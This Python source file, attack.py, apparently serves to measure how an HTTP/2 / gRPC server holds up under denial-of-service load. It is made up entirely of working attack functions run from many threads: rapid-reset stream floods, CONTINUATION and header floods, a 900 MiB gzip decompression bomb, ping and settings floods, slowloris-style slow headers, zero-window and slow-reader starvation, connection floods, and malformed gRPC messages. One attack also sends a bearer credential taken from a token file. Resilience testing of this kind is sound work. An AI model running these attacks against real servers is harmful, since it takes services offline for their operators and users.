"""Attacks a port: attack.py PORT [tls]. Each line of its input is an attack: SECONDS SOURCE NAME, from which address.
For each it prints when it began and ended (CLOCK_MONOTONIC), and what it did. EQUITY_TOKEN_FILE is the credential of
the attack that has one.

Each attack is a function of a target and an end, which several threads run; it returns how much it did. Where it is
thrown out it comes again.
"""

import os
import socket
import struct
import sys
import threading
import time
import zlib

from line import (ACK, CONTINUATION, DATA, EMPTY_MESSAGE, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM,
                  SETTINGS, WINDOW_UPDATE, Line, Target, frame, header_block, request)

GREETING = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
BLOCK = header_block()
LONG = b"\x00\x00\x00\x00\x03\x08\xe8\x07"  # page_size: 1000
NO_WINDOW = struct.pack(">HI", 4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE


def again_and_again(target, until, data, units, greeting=GREETING):
    """Sends the same bytes, each time on a new connection where the last one ended."""
    done = 0
    while time.monotonic() < until:
        line = Line(target, until, greeting)
        while not line.ended and time.monotonic() < until:
            done += units * line.send(data)
        line.end()
        time.sleep(0.001)
    return done


def once_each(target, until, data, units, stay=0.05):
    """Sends the bytes once on each connection, when the server has said how much it takes at once."""
    done = 0
    while time.monotonic() < until:
        line = Line(target, until)
        line.linger(0.02)
        line.send(frame(SETTINGS, ACK, 0))
        done += units * line.send(data)
        line.linger(stay)
        line.end()
    return done


def many_held(target, until, count, data, dribble):
    """Holds many connections that say `dribble`, a byte at a time; those that end are replaced."""
    lines, made, turn = [], 0, 0
    while time.monotonic() < until:
        lines = [line for line in lines if not line.ended]
        while len(lines) < count and time.monotonic() < until:
            lines.append(Line(target, until, data))
            made += 1
        for line in lines:
            line.read()
            if dribble and not line.ended:
                line.send(dribble[turn % len(dribble) : turn % len(dribble) + 1])
        turn += 1
        time.sleep(0.02)
    return made


def streams(count, one):
    return b"".join(one(1 + 2 * i) for i in range(count))


def rapid_reset(target, until):
    return reset_all(target, until, BLOCK)


def rapid_reset_by_partner(target, until):
    with open(os.environ["EQUITY_TOKEN_FILE"], encoding="ascii") as file:
        return reset_all(target, until, header_block(("authorization", "Bearer " + file.read().strip())))


def reset_all(target, until, block):
    def one(stream):
        return (frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
                + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
    return once_each(target, until, streams(20000, one), 20000)


def never_acknowledged(target, until):
    long = frame(HEADERS, END_HEADERS, 1, header_block(("x-long", "x" * 12000)))[9:]
    data = PREFACE + frame(SETTINGS, 0, 0) + streams(1000, lambda stream: frame(HEADERS, END_HEADERS, stream, long))
    done = 0
    while time.monotonic() < until:
        line = Line(target, until, b"")
        done += 1000 * line.send(data)
        line.linger()
        line.end()
    return done


def endless_headers(target, until):
    filler = frame(CONTINUATION, 0, 1, b"\x10\x01x\x7f\x81\x7e" + b"x" * 16256)
    done = 0
    while time.monotonic() < until:
        line = Line(target, until, GREETING + frame(HEADERS, 0, 1, BLOCK))
        while not line.ended and time.monotonic() < until:
            done += line.send(filler)
        line.end()
        time.sleep(0.001)
    return done


def bomb(mebibytes=1000):
    """A gzip stream of zeros. Its check sum is wrong, which is found out when all is unpacked."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    begin = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return begin + again * (mebibytes - 1) + packer.flush()


def data_frames(stream, message):
    pieces = [message[i : i + 16384] for i in range(0, len(message), 16384)]
    return b"".join(frame(DATA, END_STREAM * (i == len(pieces) - 1), stream, p) for i, p in enumerate(pieces))


def decompression_bomb(target, until):
    packed = bomb(900)
    message = b"\x01" + struct.pack(">I", len(packed)) + packed
    headers = header_block(("grpc-encoding", "gzip"))
    data = frame(HEADERS, END_HEADERS, 1, headers) + data_frames(1, message)
    return once_each(target, until, data, 1, 0.3)


def too_long(target, until):
    claim = frame(HEADERS, END_HEADERS, 1, BLOCK) + frame(DATA, 0, 1, b"\x00\xff\xff\xff\xff" + bytes(16000))
    long = frame(HEADERS, END_HEADERS, 3, BLOCK) + data_frames(3, b"\x00" + struct.pack(">I", 2 << 20) + bytes(2 << 20))
    return once_each(target, until, claim + long, 2)


def cut_short(target, until):
    def one(stream):
        return (frame(HEADERS, END_HEADERS, stream, BLOCK)
                + frame(DATA, END_STREAM, stream, b"\x00\x00\x00\x00\x40" + b"\x0a\x30abc"))
    return once_each(target, until, streams(60, one), 60)


def bad_base64(target, until):
    return once_each(target, until, streams(20, lambda stream: request(stream, ("x-trace-bin", "!!! no base64"))), 20)


def ping_flood(target, until):
    return again_and_again(target, until, frame(PING, 0, 0, bytes(8)) * 5000, 5000)


def settings_flood(target, until):
    return again_and_again(target, until, frame(SETTINGS, 0, 0, NO_WINDOW) * 5000, 5000)


def window_zero(target, until):
    """Asks for much and lets nothing come back."""
    greeting = PREFACE + frame(SETTINGS, 0, 0, NO_WINDOW) + streams(64, lambda stream: request(stream, message=LONG))
    return 64 * many_held(target, until, 20, greeting, b"")


def answers_not_taken(target, until):
    """So few that no limit is met."""
    greeting = PREFACE + frame(SETTINGS, 0, 0, NO_WINDOW) + streams(64, lambda stream: request(stream, message=LONG))
    return 64 * many_held(target, until, 3, greeting, b"")


def slow_reader(target, until):
    """Takes a byte at a time."""
    sip = b"".join(frame(WINDOW_UPDATE, 0, 1 + 2 * i, struct.pack(">I", 1)) for i in range(64))
    line = Line(target, until, PREFACE + frame(SETTINGS, 0, 0, NO_WINDOW) + streams(64, request))
    done = 0
    while time.monotonic() < until:
        done += 64 * line.send(sip)
        if line.ended:
            line = Line(target, until, PREFACE + frame(SETTINGS, 0, 0, NO_WINDOW) + streams(64, request))
        line.linger(0.005)
    return done


def connection_flood(target, until):
    return many_held(target, until, 400, b"", b"")


def half_preface(target, until):
    return many_held(target, until, 60, PREFACE[:3], PREFACE[3:16])


def slow_headers(target, until):
    head = GREETING + frame(HEADERS, END_HEADERS, 1, BLOCK)[: 9 + 4]
    return many_held(target, until, 60, head, BLOCK[4:-1])


# Name: function, threads, what its figure counts.
ATTACKS = {
    "rapid reset": (rapid_reset, 8, "requests"),
    "rapid reset by a partner": (rapid_reset_by_partner, 8, "requests"),
    "settings never acknowledged": (never_acknowledged, 4, "streams"),
    "endless headers": (endless_headers, 4, "frames of 16 KiB"),
    "decompression bomb": (decompression_bomb, 2, "of 900 MiB"),
    "connection flood": (connection_flood, 4, "connections"),
    "half a preface": (half_preface, 2, "connections"),
    "slow headers": (slow_headers, 2, "connections"),
    "ping flood": (ping_flood, 4, "pings"),
    "settings flood": (settings_flood, 4, "settings"),
    "window of zero": (window_zero, 2, "requests"),
    "answers not taken": (answers_not_taken, 1, "requests"),
    "slow reader": (slow_reader, 4, "bytes at most"),
    "message too long": (too_long, 4, "messages"),
    "message cut short": (cut_short, 4, "messages"),
    "metadata not base64": (bad_base64, 4, "requests"),
}


def run(target, name, seconds):
    attack, threads, unit = ATTACKS[name]
    begin = time.monotonic()
    until = begin + seconds
    done = []
    crew = [threading.Thread(target=lambda: done.append(attack(target, until))) for _ in range(threads)]
    for thread in crew:
        thread.start()
    for thread in crew:
        thread.join()
    print(f"{begin:.4f} {time.monotonic():.4f} {int(sum(done)):,} {unit}", flush=True)


def main():
    os.nice(19)  # what it costs the attacker to attack is not what is measured
    for line in sys.stdin:
        seconds, source, name = line.strip().split(" ", 2)
        run(Target(int(sys.argv[1]), sys.argv[2:] == ["tls"], source), name, float(seconds))


if __name__ == "__main__":
    socket.setdefaulttimeout(5)
    main()
